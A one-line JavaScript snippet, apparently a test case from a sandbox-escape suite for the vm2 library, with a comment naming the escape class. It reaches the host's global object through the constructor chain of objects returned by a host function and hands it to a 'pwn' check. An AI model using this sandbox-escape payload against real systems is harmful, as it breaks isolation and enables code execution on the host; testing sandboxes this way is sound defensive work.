// vm2 class: a host function's result carries host prototypes
const r = log({ a: [1] }); pwn(r.constructor.constructor('return this')()); pwn(r.a.constructor.constructor('return this')()); 1
